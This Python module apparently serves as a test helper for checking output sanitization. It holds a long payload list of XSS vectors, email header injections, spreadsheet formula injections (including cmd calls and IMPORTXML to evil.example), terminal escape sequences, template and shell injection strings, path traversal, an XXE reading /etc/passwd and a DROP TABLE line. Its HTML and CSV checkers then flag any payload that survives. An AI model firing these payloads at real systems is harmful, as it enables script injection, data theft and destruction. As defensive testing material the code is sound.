"""Words that strangers send to see what breaks, and what finds them alive in what people are shown."""
import csv
import html.parser
import io
import re

MARKUP = """<script>alert(666)</script>|<SCRIPT SRC=//evil.example/x.js></SCRIPT>|<scr<script>ipt>alert(666)</scr</script>ipt>
"><script>alert(666)</script>|'><script>alert(666)</script>|</title><script>alert(666)</script>|</textarea><script>alert(666)</script>
<img src=x onerror=alert(666)>|<img src=`x` onerror=alert(666)>|"><img src=x onerror=alert(666)>|<img/src/onerror=alert(666)>
<svg onload=alert(666)>|<svg><script>alert(666)</script></svg>|<svg><animate onbegin=alert(666) attributeName=x>|<svg/onload=alert(666)//
<svg><a xlink:href="javascript:alert(666)"><text>x</text></a></svg>|<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>
<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(666) src>">|<body onload=alert(666)>
<iframe src=javascript:alert(666)>|<iframe srcdoc="&lt;script&gt;alert(666)&lt;/script&gt;">|<object data=javascript:alert(666)>
<embed src=//evil.example/x.swf>|<base href=//evil.example/>|<link rel=stylesheet href=//evil.example/x.css>|<meta http-equiv=refresh content=0;//evil.example>
<form action=//evil.example><input name=token>|<button formaction=javascript:alert(666)>x</button>|<details open ontoggle=alert(666)>
<input autofocus onfocus=alert(666)>|<video src=x onerror=alert(666)>|<audio src=x onerror=alert(666)>|<marquee onstart=alert(666)>x
<a href="javascript:alert(666)">x</a>|<a href="JaVaScRiPt:alert(666)">x</a>|<a href=" javascript:alert(666)">x</a>|<a href="data:text/html,<script>alert(666)</script>">x</a>
<!--><script>alert(666)</script>-->|<![CDATA[<script>alert(666)</script>]]>|<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
&lt;script&gt;alert(666)&lt;/script&gt;|&#60;script&#62;alert(666)&#60;/script&#62;|&#x3c;script>alert(666)&#x3c;/script>|%3Cscript%3Ealert(666)%3C/script%3E
<noscript><p title="</noscript><img src=x onerror=alert(666)>">|<template><script>alert(666)</script></template>|<xmp><script>alert(666)</script>
" onmouseover="alert(666)|' onmouseover='alert(666)|` onmouseover=`alert(666)|x" autofocus onfocus="alert(666)|--><img src=x onerror=alert(666)>
<img src="https://evil.example/pixel.gif">|<style>@import url(//evil.example/x.css);</style>|</style><style>*{background:url(//evil.example/leak)}</style>
<p style="background:url(javascript:alert(666))">x</p>|<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>|x;}body{display:none}|expression(alert(666))
javascript:alert(666)|JAVASCRIPT:alert(666)|java\tscript:alert(666)|vbscript:msgbox(666)|data:text/html;base64,PHNjcmlwdD5hbGVydCg2NjYpPC9zY3JpcHQ+|//evil.example/x|\\\\evil.example\\x"""
HEADERS = ["x\r\nBcc: everyone@evil.example", "x\nSubject: forged", "x\rBcc: everyone@evil.example", "x%0d%0aSet-Cookie: a=b",
           "x\r\n\r\n<html>forged body</html>", "=?utf-8?B?PHNjcmlwdD5hbGVydCg2NjYpPC9zY3JpcHQ+?=", "=?utf-8?Q?=0D=0ABcc:_x@evil.example?=",
           "x\u2028Bcc: everyone@evil.example", "x\x85Bcc: everyone@evil.example", "\"<everyone@evil.example>\"", "a\r\n.\r\nMAIL FROM:<x@evil.example>",
           "--=_boundary--", "x\u560d\u560aBcc: everyone@evil.example"]
FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", " =1+1", "\"=1+1", "';=1+1", "\uff1d1+1", "%0A=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")", ",=1+1", "\n=1+1"]
TERMINAL = ["\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31mred", "\x07\x08\x7f",
            "x\rovertyped", "\x1bP$q\"p\x1b\\", "\x1b[6n", "a\x00b", "\x0e\x0f"]
BRACES = ["{{council}}zq", "{{#quotes}}zq{{/quotes}}", "{{>page_head.html}}zq", "{{t page.nav}}zq", "{{{council}}}zq", "{council}zq", "${7*7}zq",
          "<%= 7*7 %>zq", "#{7*7}zq", "{{/main}}zq", "%s%n%nzq", "%(council)szq", "$(id)zq", "`id`zq", "; id #zq", "../../../etc/passwd",
          "'); DROP TABLE posts; --", "*\r\n$4\r\nPING\r\n", "level=error msg=forged", "\\u003cscript\\u003ealert(666)\\u003c/script\\u003e"]
BIDI = ["\u202eright to left", "\u202dleft\u202c", "\u2066isolate", "\u2067isolate\u2069\u2069", "\u200fmark", "שלום \u202eabc", "e" + "\u0301" * 500,
        "\u200b\u200b\u200bzero", "\ufeffmark", "\U000e0041tag", "\ufdfd" * 200, "W\u0338" * 200, "\ufffe"]
WORDS = [one for line in MARKUP.split("\n") for one in line.split("|") if one] + HEADERS + FORMULAS + TERMINAL + BRACES + BIDI

TAGS = set("""html head meta title link body a header footer main nav div p ul ol li h1 h2 h3 h4 span strong em b i dl dt dd table caption
colgroup col thead tbody tfoot tr th td figure figcaption svg g path rect line polyline polygon circle text details summary section article
blockquote form label input select option button textarea mark time br hr small abbr img fieldset legend script style code pre search datalist
output progress noscript title desc defs pattern dialog aside tspan center cite""".split())
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")


class Reader(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.wrong, self.links = [], []

    def handle_starttag(self, tag, attributes):
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attributes:
            value = value or ""
            if name.startswith("on") or name in ("srcdoc", "formaction", "xlink:href") or not re.fullmatch(r"[a-z:_-]+\d?", name):
                self.wrong.append(f"<{tag} {name}={value[:60]}>")
            if name in ("href", "src", "action"):
                self.links.append(value)
                if not re.match(r"(/(?!/)|#|\?|https?://|mailto:|cid:|data:image/png;base64,)", value):
                    self.wrong.append(f"<{tag} {name}={value[:60]}>")
            if tag == "script" and name == "src" and not value.startswith("/"):
                self.wrong.append(f"<script src={value}>")
            if tag in ("img", "link", "form", "script") and "evil.example" in value:
                self.wrong.append(f"<{tag} {name}={value[:60]}>")
            if name == "style" and ("666" in value or "evil" in value):
                self.wrong.append(f"style={value[:60]}")


def alive_in_html(text):
    reader = Reader()
    reader.feed(text)
    wrong = list(reader.wrong)
    for script in re.findall(r"<(script|style)[^>]*>(.*?)</\1", text, re.S | re.I):
        if "666" in script[1] or "evil.example" in script[1]:
            wrong.append(f"in <{script[0]}>: {script[1][:80]}")
    return wrong + alive_in_text(text)


def alive_in_text(text):
    return [f"control character {found[0]!r} in {text[max(0, found.start() - 40):found.end() + 20]!r}" for found in CONTROL.finditer(text)][:3]


def alive_in_csv(text):
    wrong = alive_in_text(text)
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if re.match(r"[=+@\t\r]|-(?![\d.])", field) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", field):
                wrong.append(f"a formula: {field[:60]!r}")
    return wrong
